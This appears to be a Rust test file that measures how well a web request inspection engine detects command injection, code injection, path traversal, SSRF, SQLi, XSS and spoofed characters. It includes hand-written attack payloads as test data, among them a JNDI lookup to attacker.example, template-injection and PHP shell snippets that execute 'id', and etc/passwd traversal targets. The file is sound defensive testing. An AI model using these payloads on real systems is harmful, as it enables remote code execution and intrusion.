//! Detection report of the request checks, driven by corpora: for each check, an engine with
//! only that check enabled judges every attack and benign value as a query value
//! (`GET /?q=<value>`, the shape `ironward scan` gives a `{"text": …}` record), and the test
//! prints detected and flagged counts with the first false positives and misses, then asserts
//! every check's floor and ceiling.
//!
//! Data:
//! - attacks from `../shared/datasets/train/{cmdi,path_traversal,ssrf}.jsonl` (deduplicated)
//!   and the dev split of `{sqli,xss}.jsonl`,
//!   plus small hand-written sets here for `code_injection` and `chars`;
//! - benign values from `tests/corpus/benign/*.txt` (this repository; see its README) and
//!   `../shared/datasets/train/benign.jsonl` (names, prose; read at test time, never copied).
//!
//! The shared folder is required: CI always has it beside the repository, and a missing or
//! empty dataset fails the test with the path it looked for (a detection test that cannot see
//! its data must not pass).
//!
//! The report reads every row (about 20 s in a debug build on two cores); to see it:
//!
//! ```text
//! cargo test --release -p ironward-core --test integration detection -- --nocapture
//! ```
//!
//! Asserted for every check, in [`specs`]: a detection floor (share of its attacks detected)
//! and a false-positive ceiling (share of benign values flagged, on this repository's corpus
//! alone and on all benign values together). Floors and ceilings sit just under and just
//! above the measured figures (`docs/detection.md` and `docs/checks.md` have them), so that a
//! check that stops firing, or starts flagging benign values, fails here.
#![allow(clippy::print_stdout)]

use ironward_core::check::CheckId;
use ironward_core::config::{Config, Level};
use ironward_core::engine::Engine;
use ironward_core::request::{Header, Headers, Request};
use ironward_core::verdict::Action;
use std::collections::HashSet;
use std::fmt::Write as _;
use std::path::{Path, PathBuf};
use std::sync::LazyLock;

/// False positives and misses printed per check and set; `IRONWARD_DETECTION_EXAMPLES=n`
/// prints more.
static EXAMPLES: LazyLock<usize> = LazyLock::new(|| {
    std::env::var("IRONWARD_DETECTION_EXAMPLES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(10)
});
/// False-positive ceiling where no benign value is flagged today: 1 in 50,000 (at most 1 value
/// of the corpus, 3 of all benign values).
const NEAR_ZERO: f64 = 0.000_02;

/// A value to judge and where it comes from (a file name), for the report.
#[derive(Debug, Clone)]
struct Sample {
    source: String,
    text: String,
}

fn crate_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// `../shared/datasets/train/` as seen from the workspace root.
fn datasets_dir() -> PathBuf {
    crate_dir().join("../../../shared/datasets/train")
}

/// Every value of `tests/corpus/benign/*.txt`, files in name order, one value per line.
fn repo_corpus() -> Vec<Sample> {
    let dir = crate_dir().join("tests/corpus/benign");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("benign corpus {} is missing: {e}", display(&dir)))
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "txt"))
        .collect();
    files.sort();
    let mut seen = HashSet::new();
    let mut out = Vec::new();
    for f in files {
        let name = f.file_name().unwrap().to_string_lossy().into_owned();
        for line in std::fs::read_to_string(&f).unwrap().lines() {
            if !line.is_empty() && seen.insert(line.to_owned()) {
                out.push(Sample {
                    source: name.clone(),
                    text: line.to_owned(),
                });
            }
        }
    }
    out
}

/// The `text` of every row of a shared JSONL dataset, deduplicated in order. Panics
/// when the dataset is absent or empty.
fn shared(file: &str) -> Vec<Sample> {
    shared_where(file, |_| true)
}

/// The rows of the held-back dev split (`ironward_ml::split::is_dev`) of a shared dataset: the
/// SQL injection and XSS models and rules were tuned on the other rows, so only these are
/// reported for them.
fn shared_dev(file: &str) -> Vec<Sample> {
    shared_where(file, ironward_ml::split::is_dev)
}

/// Like [`shared`], keeping the rows whose text passes `keep`. Rows whose `subtype` is
/// `sql_statement` are left out: that source labels whole SQL statements benign, which is
/// label noise for an engine judging request values (`SELECT … FROM …` in a form field is
/// what the `sqli` check exists to stop).
fn shared_where(file: &str, keep: fn(&str) -> bool) -> Vec<Sample> {
    let path = datasets_dir().join(file);
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "dataset {} is missing ({e}): the detection tests need the shared datasets \
             (`shared/` beside the repository, as in CI)",
            display(&path)
        )
    });
    let mut seen = HashSet::new();
    let mut out = Vec::new();
    for line in text.lines() {
        let Ok(row) = serde_json::from_str::<serde_json::Value>(line) else {
            continue;
        };
        if row.get("subtype").and_then(|t| t.as_str()) == Some("sql_statement") {
            continue;
        }
        if let Some(t) = row.get("text").and_then(|t| t.as_str())
            && !t.is_empty()
            && keep(t)
            && seen.insert(t.to_owned())
        {
            out.push(Sample {
                source: file.to_owned(),
                text: t.to_owned(),
            });
        }
    }
    assert!(
        !out.is_empty(),
        "dataset {} has no usable row",
        display(&path)
    );
    out
}

/// `path_traversal.jsonl` holds 451 templates with a `{FILE}` placeholder (PayloadsAllTheThings'
/// deep-traversal list); real requests carry a file name there. Fills it in with a rotating
/// set of usual targets and deduplicates again.
fn fill_file_placeholders(rows: Vec<Sample>) -> Vec<Sample> {
    const TARGETS: [&str; 4] = ["etc/passwd", "windows/win.ini", "etc/hosts", "boot.ini"];
    let mut seen = HashSet::new();
    let mut i = 0;
    let mut out = Vec::with_capacity(rows.len());
    for mut s in rows {
        if s.text.contains("{FILE}") {
            s.text = s.text.replace("{FILE}", TARGETS[i % TARGETS.len()]);
            i += 1;
        }
        if seen.insert(s.text.clone()) {
            out.push(s);
        }
    }
    out
}

/// The path, resolved when it exists (`crates/ironward-core/../../../shared` reads badly).
fn display(p: &Path) -> String {
    p.canonicalize()
        .unwrap_or_else(|_| p.to_path_buf())
        .display()
        .to_string()
}

fn hand(source: &str, values: &[&str]) -> Vec<Sample> {
    values
        .iter()
        .map(|v| Sample {
            source: source.to_owned(),
            text: (*v).to_owned(),
        })
        .collect()
}

/// Code injection: JNDI lookups, expression languages, template injection, PHP code,
/// serialized objects (hand-written, generic textbook shapes).
const CODE_INJECTION_ATTACKS: &[&str] = &[
    "${jndi:ldap://attacker.example/a}",
    "${jndi:rmi://203.0.113.5:1099/Exploit}",
    "${${lower:j}ndi:${lower:l}dap://x.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}",
    "{{7*7}}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% import os %}{{ os.system('id') }}",
    "${7*7}",
    "#{7*7}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{T(java.lang.Runtime).getRuntime().exec('calc')}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true)(@java.lang.Runtime@getRuntime().exec('id'))}",
    "<%= 7*7 %>",
    "<%= system('id') %>",
    "<?php system($_GET['c']); ?>",
    "<?php echo shell_exec('id'); ?>",
    "<?= `id` ?>",
    "O:8:\"stdClass\":1:{s:4:\"test\";s:3:\"abc\";}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAAeA==",
    "__import__('os').system('id')",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "require('child_process').exec('id')",
    "process.mainModule.require('child_process').execSync('id')",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
    "@(1+2)",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "!!python/object/apply:os.system ['id']",
];

/// Suspicious characters: homoglyphs mixed into Latin words, invisible and bidi characters,
/// control characters (hand-written).
const CHARS_ATTACKS: &[&str] = &[
    "pаypal.com",
    "аdmin",
    "gооgle.com",
    "micrоsoft login",
    "аpple іd",
    "admin\u{200b}",
    "pass\u{200c}word",
    "ad\u{200d}min",
    "\u{feff}admin",
    "user\u{2060}name",
    "invoice\u{202e}fdp.exe",
    "abc\u{202d}def",
    "\u{2066}admin\u{2069}",
    "null\u{0}byte",
    "bell\u{7}char",
    "esc\u{1b}[31mred",
    "back\u{8}space",
    "del\u{7f}ete",
    "line\u{b}tab",
    "form\u{c}feed",
];

/// An engine where only `check` (and `also`) runs, at level 1; `CHARS_*` are on for `chars`.
fn engine_only(check: CheckId, also: &[CheckId]) -> Engine {
    let mut c = Config::default();
    for id in CheckId::configurable() {
        c.security_checks.set(id, Level::Off);
    }
    c.security_checks.set(check, Level::Block);
    for id in also {
        c.security_checks.set(*id, Level::Block);
    }
    if check == CheckId::Chars {
        c.chars_cyrillic = true;
        c.chars_invisible = true;
        c.chars_nonprintable = true;
    }
    Engine::new(c).unwrap()
}

/// `GET /?q=<value>`, form-urlencoded, with a `Host` header.
fn judge(engine: &Engine, value: &str) -> Judgement {
    let mut target = String::with_capacity(value.len() * 3 + 4);
    target.push_str("/?q=");
    target.extend(form_urlencoded::byte_serialize(value.as_bytes()));
    let headers = Headers(vec![Header::new("Host", "shop.example")]);
    let req = Request::new("GET", &target).with_headers(headers);
    let v = engine.inspect_request(&req);
    if let Some(e) = v.internal_error {
        return Judgement::Error(e);
    }
    if v.findings.is_empty() && v.action == Action::Allow {
        Judgement::Clean
    } else {
        Judgement::Flagged
    }
}

enum Judgement {
    Clean,
    Flagged,
    Error(String),
}

/// What one check made of one set of values.
#[derive(Debug, Default)]
struct Tally {
    total: usize,
    flagged: usize,
    /// The first flagged values (benign sets) or missed values (attack sets).
    examples: Vec<Sample>,
    errors: Vec<(Sample, String)>,
}

impl Tally {
    fn rate(&self) -> f64 {
        if self.total == 0 {
            0.0
        } else {
            self.flagged as f64 / self.total as f64
        }
    }

    fn merge(&mut self, other: Tally) {
        self.total += other.total;
        self.flagged += other.flagged;
        let room = (*EXAMPLES).saturating_sub(self.examples.len());
        self.examples.extend(other.examples.into_iter().take(room));
        self.errors.extend(other.errors);
    }
}

/// Judges every value, on as many threads as there are cores (the engine is `Sync`).
/// `keep_flagged`: keep the flagged values as examples (benign), else the missed ones.
fn run(engine: &Engine, values: &[Sample], keep_flagged: bool) -> Tally {
    let threads = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1)
        .clamp(1, 8);
    let chunk = values.len().div_ceil(threads).max(1);
    let parts: Vec<Tally> = std::thread::scope(|s| {
        let handles: Vec<_> = values
            .chunks(chunk)
            .map(|part| {
                s.spawn(move || {
                    let mut t = Tally::default();
                    for v in part {
                        t.total += 1;
                        let hit = match judge(engine, &v.text) {
                            Judgement::Clean => false,
                            Judgement::Flagged => true,
                            Judgement::Error(e) => {
                                t.errors.push((v.clone(), e));
                                false
                            }
                        };
                        t.flagged += usize::from(hit);
                        if hit == keep_flagged && t.examples.len() < *EXAMPLES {
                            t.examples.push(v.clone());
                        }
                    }
                    t
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    let mut all = Tally::default();
    for p in parts {
        all.merge(p);
    }
    all
}

/// One check of the report: its attack set, its detection floor and its false-positive
/// ceiling.
struct Spec {
    check: CheckId,
    /// Checks run together with `check` (the issue's "command and code injection" target is
    /// met by the two checks together: a quarter of the command-injection payloads are PHP or
    /// template code, which `code_injection` owns).
    also: Vec<CheckId>,
    attacks: Vec<Sample>,
    attack_label: String,
    /// Smallest share of `attacks` detected (unused when there is no attack set).
    floor: f64,
    /// Largest share of the repository's corpus flagged (at most `ceil(total × max_corpus)`
    /// values).
    max_corpus: f64,
    /// Largest share of all benign values (corpus and `benign.jsonl`) flagged.
    max_all: f64,
}

/// The benign sets of a run.
struct Benign {
    repo: Vec<Sample>,
    shared: Vec<Sample>,
    shared_label: String,
}

/// Floors and ceilings, from the figures measured in release on 2026-12-05 (in the comments):
/// floors just under the detection figures (about 0.3 point for the large sets, one or two
/// rows for the small ones, none for the hand-written sets), ceilings just above the
/// false-positive figures (the values allowed in brackets). Update them, and
/// `docs/detection.md` and `docs/checks.md`, when a change moves a figure on purpose.
fn specs() -> Vec<Spec> {
    vec![
        // 351 / 390 (90.00 %, floor 349); benign 0 / 7,706 corpus (1), 2 / 136,216 all (5).
        Spec {
            check: CheckId::Command,
            also: Vec::new(),
            attacks: shared("cmdi.jsonl"),
            attack_label: "cmdi.jsonl (command alone)".into(),
            floor: 0.894,
            max_corpus: NEAR_ZERO,
            max_all: 0.000_03,
        },
        // 376 / 390 (96.41 %, floor 374); benign as `command` alone.
        Spec {
            check: CheckId::Command,
            also: vec![CheckId::CodeInjection],
            attacks: shared("cmdi.jsonl"),
            attack_label: "cmdi.jsonl (command + code_injection)".into(),
            floor: 0.958,
            max_corpus: NEAR_ZERO,
            max_all: 0.000_03,
        },
        // 28 / 30 (the two `require('child_process')` calls are missed); benign 0 (1 and 3).
        Spec {
            check: CheckId::CodeInjection,
            also: Vec::new(),
            attacks: hand("hand-written", CODE_INJECTION_ATTACKS),
            attack_label: "hand-written".into(),
            floor: 28.0 / 30.0,
            max_corpus: NEAR_ZERO,
            max_all: NEAR_ZERO,
        },
        // 14,121 / 14,163 (99.70 %, floor 14,079); benign 0 (1 and 3).
        Spec {
            check: CheckId::PathTraversal,
            also: Vec::new(),
            attacks: fill_file_placeholders(shared("path_traversal.jsonl")),
            attack_label: "path_traversal.jsonl ({FILE} filled)".into(),
            floor: 0.994,
            max_corpus: NEAR_ZERO,
            max_all: NEAR_ZERO,
        },
        // 93 / 95 (97.89 %, floor 92); benign 0 (1 and 3).
        Spec {
            check: CheckId::Ssrf,
            also: Vec::new(),
            attacks: shared("ssrf.jsonl"),
            attack_label: "ssrf.jsonl".into(),
            floor: 0.96,
            max_corpus: NEAR_ZERO,
            max_all: NEAR_ZERO,
        },
        // 5,645 / 5,685 (99.30 %, floor 5,629); benign 2 / 7,706 corpus (3), 11 / 136,216 all
        // (17).
        Spec {
            check: CheckId::Sqli,
            also: Vec::new(),
            attacks: shared_dev("sqli.jsonl"),
            attack_label: "sqli.jsonl (dev split)".into(),
            floor: 0.99,
            max_corpus: 0.000_3,
            max_all: 0.000_12,
        },
        // 1,993 / 2,048 (97.31 %, floor 1,987); benign 0 (1 and 3).
        Spec {
            check: CheckId::Xss,
            also: Vec::new(),
            attacks: shared_dev("xss.jsonl"),
            attack_label: "xss.jsonl (dev split)".into(),
            floor: 0.97,
            max_corpus: NEAR_ZERO,
            max_all: NEAR_ZERO,
        },
        // 20 / 20; benign 0 / 7,706 corpus (1), 4 / 136,216 all (7).
        Spec {
            check: CheckId::Chars,
            also: Vec::new(),
            attacks: hand("hand-written", CHARS_ATTACKS),
            attack_label: "hand-written".into(),
            floor: 1.0,
            max_corpus: NEAR_ZERO,
            max_all: 0.000_05,
        },
        // No attack set (one parameter per request: `check/hpp/tests.rs` has the attacks);
        // benign 0 (1 and 3).
        Spec {
            check: CheckId::Hpp,
            also: Vec::new(),
            attacks: Vec::new(),
            attack_label: "(none: one parameter per request)".into(),
            floor: 0.0,
            max_corpus: NEAR_ZERO,
            max_all: NEAR_ZERO,
        },
    ]
}

fn pct(t: &Tally) -> String {
    format!("{:>7.2} %", t.rate() * 100.0)
}

fn row(out: &mut String, check: CheckId, set: &str, t: &Tally) {
    let counts = format!("{}/{}", t.flagged, t.total);
    let _ = writeln!(
        out,
        "{:<15} {:<42} {:>14} {}",
        check.key(),
        set,
        counts,
        pct(t)
    );
}

fn examples(out: &mut String, what: &str, t: &Tally) {
    if t.examples.is_empty() {
        return;
    }
    let _ = writeln!(out, "    first {what}:");
    for s in &t.examples {
        let shown: String = s.text.chars().take(160).collect();
        let _ = writeln!(out, "      [{}] {:?}", s.source, shown);
    }
}

/// Runs the report and returns the assertion failures (empty when every floor and ceiling
/// holds).
fn report(benign: &Benign) -> Vec<String> {
    let mut failures = Vec::new();
    let mut out = String::new();
    let _ = writeln!(
        out,
        "\n{:<15} {:<42} {:>14} {:>9}",
        "check", "set", "flagged/total", "rate"
    );
    for spec in specs() {
        let started = std::time::Instant::now();
        let engine = engine_only(spec.check, &spec.also);
        let attacks = run(&engine, &spec.attacks, false);
        let repo = run(&engine, &benign.repo, true);
        let shared = run(&engine, &benign.shared, true);

        row(
            &mut out,
            spec.check,
            &format!("attacks {}", spec.attack_label),
            &attacks,
        );
        row(&mut out, spec.check, "benign tests/corpus/benign", &repo);
        row(&mut out, spec.check, &benign.shared_label, &shared);
        let all_benign = Tally {
            total: repo.total + shared.total,
            flagged: repo.flagged + shared.flagged,
            ..Tally::default()
        };
        row(&mut out, spec.check, "benign, all", &all_benign);
        examples(&mut out, "misses", &attacks);
        examples(&mut out, "false positives (corpus)", &repo);
        examples(&mut out, "false positives (benign.jsonl)", &shared);
        for t in [&attacks, &repo, &shared] {
            for (s, e) in t.errors.iter().take(*EXAMPLES) {
                failures.push(format!(
                    "{}: internal error on [{}] {:?}: {e}",
                    spec.check, s.source, s.text
                ));
            }
        }

        // A check that stops firing fails here: every attack set has a floor.
        if !spec.attacks.is_empty() && attacks.rate() < spec.floor {
            failures.push(format!(
                "{}: detected {}/{} ({:.2} %) of {} attacks, floor {:.2} %",
                spec.check,
                attacks.flagged,
                attacks.total,
                attacks.rate() * 100.0,
                spec.attack_label,
                spec.floor * 100.0
            ));
        }
        let ceilings = [
            ("corpus", &repo, spec.max_corpus),
            ("all benign", &all_benign, spec.max_all),
        ];
        for (name, t, ceiling) in ceilings {
            let allowed = (t.total as f64 * ceiling).ceil() as usize;
            if t.flagged > allowed {
                failures.push(format!(
                    "{}: flagged {} of {} benign values ({name}), at most {allowed} allowed \
                     (ceiling {:.4} %)",
                    spec.check,
                    t.flagged,
                    t.total,
                    ceiling * 100.0
                ));
            }
        }
        let floor = if spec.attacks.is_empty() {
            "no attack set".to_owned()
        } else {
            format!("floor {:.2} %", spec.floor * 100.0)
        };
        let _ = writeln!(
            out,
            "    -> asserted: {floor}, benign ceilings {:.4} % (corpus), {:.4} % (all) ({:.1} s)\n",
            spec.max_corpus * 100.0,
            spec.max_all * 100.0,
            started.elapsed().as_secs_f64()
        );
    }
    println!("{out}");
    failures
}

fn benign_sets() -> Benign {
    Benign {
        repo: repo_corpus(),
        shared: shared("benign.jsonl"),
        shared_label: "benign benign.jsonl (every row)".to_owned(),
    }
}

/// The whole report, every row of every set (about 20 s in a debug build on two cores, 3 s in
/// release).
#[test]
fn detection_report() {
    let failures = report(&benign_sets());
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn repo_corpus_is_large_and_clean() {
    let corpus = repo_corpus();
    assert!(corpus.len() >= 5000, "only {} values", corpus.len());
    for s in &corpus {
        assert!(
            !s.text.contains(['\n', '\r']),
            "[{}] {:?} holds a newline",
            s.source,
            s.text
        );
    }
    let tricky = corpus.iter().filter(|s| s.source == "tricky.txt").count();
    assert!(tricky >= 200, "tricky.txt has only {tricky} values");
}

/// Inputs pyrasp 0.10.2 wrongly blocked. They must pass Ironward's default configuration (all
/// default checks): today that means the default engine allows them with no finding at all.
const PYRASP_FALSE_POSITIVES: &[&str] = &[
    "select a plan from the menu",
    "Order by date",
    "<b>bold</b>",
    "50% off -- today",
    "O'Brien",
    "top 10 | less",
    "Привет",
    "Иван Петров",
    "Олександр Шевченко",
    "Наталья Сидорова",
    "Фёдор Достоевский",
    "Мария",
];

#[test]
fn pyrasp_false_positives_pass_the_default_configuration() {
    let engine = Engine::new(Config::default()).unwrap();
    let mut out = String::from("\npyrasp 0.10.2 false positives, default configuration:\n");
    let mut failures = Vec::new();
    for value in PYRASP_FALSE_POSITIVES {
        let mut target = String::from("/?q=");
        target.extend(form_urlencoded::byte_serialize(value.as_bytes()));
        let headers = Headers(vec![Header::new("Host", "shop.example")]);
        let req = Request::new("GET", &target)
            .with_headers(headers)
            .with_peer("198.51.100.23".parse().unwrap());
        let v = engine.inspect_request(&req);
        engine.reset_state();
        let checks: Vec<&str> = v.findings.iter().map(|f| f.check.key()).collect();
        let _ = writeln!(
            out,
            "  {:<32} {:<8} {}",
            format!("{value:?}"),
            v.action.as_str(),
            checks.join(", ")
        );
        if v.action != Action::Allow || !v.findings.is_empty() || v.internal_error.is_some() {
            failures.push(format!(
                "{value:?}: {} by {:?} (internal error: {:?})",
                v.action.as_str(),
                checks,
                v.internal_error
            ));
        }
    }
    println!("{out}");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
